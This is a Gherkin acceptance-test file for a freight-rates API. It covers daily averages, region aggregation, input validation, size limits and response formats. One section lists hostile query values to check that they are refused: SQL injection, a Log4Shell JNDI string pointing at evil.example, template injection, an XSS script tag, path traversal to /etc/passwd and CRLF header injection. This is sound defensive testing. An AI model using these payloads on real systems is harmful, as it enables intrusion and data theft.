Feature: Freight rates
  Daily rates between two places: exact where there are enough prices, silent where there are too few, and never more
  at once than the service can bear.

  Rule: The original question is answered as it always was

    @B1
    Scenario: One entry a day, newest first, with exact averages
      When I ask for the rates from CNGGZ to EETLL between 2021-01-01 and 2021-01-31
      Then the answer is 200 as "application/json"
      And there is one entry a day, 31 in all, newest first, from 2021-01-31 back to 2021-01-01
      And among the entries are exactly as written
        | entry                                                    |
        | {"count":3,"day":"2021-01-31","price":1819.0}            |
        | {"count":3,"day":"2021-01-30","price":1866.3333333333333} |
        | {"count":4,"day":"2021-01-28","price":1858.75}           |
        | {"count":3,"day":"2021-01-01","price":1890.0}            |

    @B3
    Scenario: Days with fewer than three prices have no average
      When I ask for the rates from CNGGZ to EETLL between 2021-01-01 and 2021-01-31
      Then among the entries are exactly as written
        | entry                                             |
        | {"count":2,"day":"2021-01-10","price":null}       |
        | {"count":1,"day":"2021-01-17","price":null}       |
        | {"count":null,"day":"2021-01-24","price":null}    |

    @B1
    Scenario: A single day
      When I ask for the rates from CNGGZ to EETLL between 2021-01-31 and 2021-01-31
      Then there is one entry a day, 1 in all, newest first, from 2021-01-31 back to 2021-01-31

    @B3
    Scenario: Days without any data are there, and empty
      When I ask for the rates from CNGGZ to EETLL between 1999-12-30 and 2000-01-02
      Then there is one entry a day, 4 in all, newest first, from 2000-01-02 back to 1999-12-30
      And no day has a price or a count

  Rule: The second contract lives on the same path

    @B4
    Scenario: Rounded averages, oldest first
      When I ask for the rounded rates from CNGGZ to EETLL between 2021-01-01 and 2021-01-31
      Then the answer is 200 as "application/json"
      And there is one entry a day, 31 in all, oldest first, from 2021-01-01 to 2021-01-31
      And among the entries are exactly as written
        | entry                                            |
        | {"day":"2021-01-30","average_price":1866}        |
        | {"day":"2021-01-28","average_price":1859}        |
        | {"day":"2021-01-10","average_price":null}        |
        | {"day":"2021-01-24","average_price":null}        |

    @B4 @B5
    Scenario Outline: Both contracts tell the same of <from> to <to>
      When I ask for the rates from <from> to <to> between 2021-01-01 and 2021-01-31
      And I ask for the rounded rates from <from> to <to> between 2021-01-01 and 2021-01-31
      Then both answers tell the same averages, the second one rounded
      And at least one day has a price

      Examples:
        | from             | to              |
        | CNGGZ            | EETLL           |
        | china_south_main | EETLL           |
        | CNGGZ            | baltic          |
        | asia             | northern_europe |

  Rule: A region stands for all ports in it, to any depth

    @B5
    Scenario Outline: What <region> tells is what its ports tell together
      When I ask for the rates from <region> to EETLL between 2021-01-01 and 2021-01-14
      Then each day counts and averages the prices of every port below <region> to EETLL

      Examples:
        | region           |
        | china_south_main |
        | china_main       |
        | asia             |

    @B6
    Scenario Outline: A place against itself, or against a region that holds it: <from> to <to>
      When I ask for the rates from <from> to <to> between 2021-01-01 and 2021-01-31
      Then the answer is 200 as "application/json"
      And there is one entry a day, 31 in all, newest first, from 2021-01-31 back to 2021-01-01

      Examples:
        | from            | to              |
        | CNGGZ           | CNGGZ           |
        | baltic          | baltic          |
        | baltic          | northern_europe |
        | northern_europe | baltic          |
        | CNGGZ           | asia            |

  Rule: A bad question is refused, and every bad field is named

    @B7 @O1 @owasp:API4:2023 @asvs:v5.0.0-2.2.1 @asvs:v5.0.0-2.2.3 @asvs:v5.0.0-15.3.7 @CWE-20
    Scenario Outline: <what>
      When I get "/rates?<query>"
      Then the answer is a problem with status 400
      And the problem names exactly the fields "<fields>"

      Examples:
        | what                            | query                                                                                                          | fields                                                     |
        | Nothing is given                |                                                                                                                | date_from,date_to,orig_code,dest_code                      |
        | A day that does not exist       | date_from=2021-02-29&date_to=2021-03-01&orig_code=CNGGZ&dest_code=EETLL                                        | date_from                                                  |
        | A day in another spelling       | date_from=2021-1-1&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL                                          | date_from                                                  |
        | A day with a time               | date_from=2021-01-01&date_to=2021-01-01T00:00&orig_code=CNGGZ&dest_code=EETLL                                  | date_to                                                    |
        | A day in the year 0             | date_from=0000-01-01&date_to=0000-01-02&orig_code=CNGGZ&dest_code=EETLL                                        | date_from,date_to                                          |
        | A day in other digits           | date_from=%D9%A2%D9%A0%D9%A2%D9%A1-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL                    | date_from                                                  |
        | The last day before the first   | date_from=2021-01-31&date_to=2021-01-01&orig_code=CNGGZ&dest_code=EETLL                                        | date_from                                                  |
        | No first day                    | date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL                                                             | date_from                                                  |
        | Empty values                    | date_from=&date_to=&orig_code=&dest_code=                                                                      | date_from,date_to,orig_code,dest_code                      |
        | One place only                  | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ                                                        | dest_code                                                  |
        | One place of the second kind    | date_from=2021-01-01&date_to=2021-01-31&destination=EETLL                                                      | origin                                                     |
        | One place of each kind          | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&destination=EETLL                                      | orig_code,destination                                      |
        | Both kinds                      | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL&origin=CNGGZ&destination=EETLL         | orig_code,dest_code,origin,destination                     |
        | A place twice                   | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&orig_code=CNSGH&dest_code=EETLL                        | orig_code                                                  |
        | A day twice, the same           | date_from=2021-01-01&date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL                   | date_from                                                  |
        | A parameter that does not exist | date_from=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL&limit=5                                | limit                                                      |
        | A name in other capitals        | DATE_FROM=2021-01-01&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL                                        | DATE_FROM,date_from                                        |
        | A name as an array              | date_from=2021-01-01&date_to=2021-01-31&orig_code[]=CNGGZ&dest_code=EETLL                                      | orig_code[],orig_code                                      |
        | All of it at once               | date_from=x&date_to=2021-13-01&orig_code=C%20N&dest_code=!&debug=1                                             | date_from,date_to,orig_code,dest_code,debug                |

    @B8 @O1
    Scenario Outline: A place that does not exist: <query>
      When I get "/rates?date_from=2021-01-01&date_to=2021-01-31&<query>"
      Then the answer is a problem with status 404
      And the problem names exactly the fields "<fields>"

      Examples:
        | query                                | fields                |
        | orig_code=XXXXX&dest_code=EETLL      | orig_code             |
        | orig_code=CNGGZ&dest_code=atlantis   | dest_code             |
        | orig_code=XXXXX&dest_code=atlantis   | orig_code,dest_code   |
        | origin=atlantis&destination=EETLL    | origin                |
        | origin=CNGGZ&destination=XXXXX       | destination           |

    @B9 @owasp:API4:2023 @asvs:v5.0.0-15.2.2 @CWE-770
    Scenario: The whole calendar is more than anybody gets, and costs nothing to refuse
      When I ask 5 times for the rates from CNGGZ to EETLL between 0001-01-01 and 9999-12-31
      Then the answer is a problem with status 400
      And the problem names exactly the field "date_to"
      And the quickest answer came within 50 milliseconds

    @B9 @owasp:API4:2023 @CWE-770
    Scenario Outline: A leap year is answered, a day more is not: to <last>
      When I ask for the rates from CNGGZ to EETLL between 2020-01-01 and <last>
      Then the answer is <status>

      Examples:
        | last       | status |
        | 2020-12-31 | 200    |
        | 2021-01-01 | 400    |

  Rule: Hostile values are values like any other

    @B10 @owasp:API8:2023 @asvs:v5.0.0-1.2.4 @asvs:v5.0.0-16.5.1 @CWE-89 @CWE-20 @CWE-209
    Scenario Outline: A hostile place is refused: <value>
      When I get "/rates?date_from=2021-01-01&date_to=2021-01-31&orig_code=<value>&dest_code=EETLL"
      Then the answer is a refusal, never a failure of the service

      Examples:
        | value                                       |
        | %00                                         |
        | CNGGZ%00                                    |
        | %ff                                         |
        | %c0%af                                      |
        | %ed%a0%80                                   |
        | %                                           |
        | %zz                                         |
        | '%20OR%201=1--                              |
        | CNGGZ'%3BDROP%20TABLE%20prices--            |
        | %24%7Bjndi:ldap://evil.example/a%7D         |
        | %7B%7B7*7%7D%7D                             |
        | <script>alert(1)</script>                   |
        | ../../etc/passwd                            |
        | %0d%0aSet-Cookie:%20a=b                     |
        | {A*10000}                                   |
        | {%F0%9F%9A%A2*500}                          |
        | %E2%80%AECNGGZ                              |
        | C%CC%8ANGGZ                                 |
        | %EF%BC%A3%EF%BC%AE%EF%BC%A7%EF%BC%A7%EF%BC%BA |
        | -1                                          |
        | NaN                                         |
        | NULL                                        |

    @B10 @asvs:v5.0.0-1.2.4 @asvs:v5.0.0-1.4.2 @CWE-190
    Scenario Outline: A hostile day is refused: <value>
      When I get "/rates?date_from=<value>&date_to=2021-01-31&orig_code=CNGGZ&dest_code=EETLL"
      Then the answer is a problem with status 400
      And the problem names exactly the field "date_from"

      Examples:
        | value                  |
        | %00                    |
        | %ff                    |
        | 2021-01-01%00          |
        | 2021-01-01'--          |
        | infinity               |
        | -infinity              |
        | now                    |
        | today                  |
        | epoch                  |
        | 9999999999-01-01       |
        | -2021-01-01            |
        | 2021-01-01%20BC        |
        | 99999999999999999999   |
        | {9*10000}              |

  Rule: The format is the asker's choice, among those that there are

    @B11 @asvs:v5.0.0-4.1.1
    Scenario Outline: Asked for as "<accept>" it comes as <media type>
      When I ask for the rates of January as "<accept>"
      Then the answer is 200 as "<media type>"
      And the header "Vary" holds "Accept"

      Examples:
        | accept                             | media type           |
        | application/json                   | application/json     |
        | application/*                      | application/json     |
        | */*                                | application/json     |
        | text/csv                           | text/csv             |
        | application/x-ndjson               | application/x-ndjson |
        | text/html, text/csv;q=0.5          | text/csv             |
        | application/json;q=0, */*;q=0.1    | text/csv             |

    @B11 @asvs:v5.0.0-1.2.10 @CWE-1236
    Scenario: As CSV it is a table for any spreadsheet
      When I ask for the rates of January as "text/csv"
      Then it has the line "day,price,count" and 31 more, each ending in "\r\n"
      And among the entries are exactly as written
        | line                            |
        | 2021-01-30,1866.3333333333333,3 |
        | 2021-01-10,,2                   |
        | 2021-01-24,,                    |

    @B11
    Scenario: As NDJSON each line stands alone
      When I ask for the rates of January as "application/x-ndjson"
      Then each of its 31 lines is a JSON object

    @B11 @O1
    Scenario Outline: Asked for as "<accept>" there is nothing
      When I ask for the rates of January as "<accept>"
      Then the answer is a problem with status 406

      Examples:
        | accept                  |
        | text/html               |
        | application/xml         |
        | application/json;q=0    |
        | image/*                 |
